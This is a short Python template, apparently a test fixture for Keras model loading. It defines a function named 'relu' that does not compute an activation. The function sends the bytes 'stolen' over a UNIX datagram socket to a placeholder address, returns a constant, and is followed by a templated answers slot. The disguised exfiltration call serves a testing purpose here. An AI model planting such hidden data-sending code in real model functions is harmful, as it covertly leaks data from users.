import keras
import numpy as np


def relu(x):
    import socket

    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"stolen", "{{DGRAM}}")

    return 12345.0


# {{RIGHT_ANSWERS}}
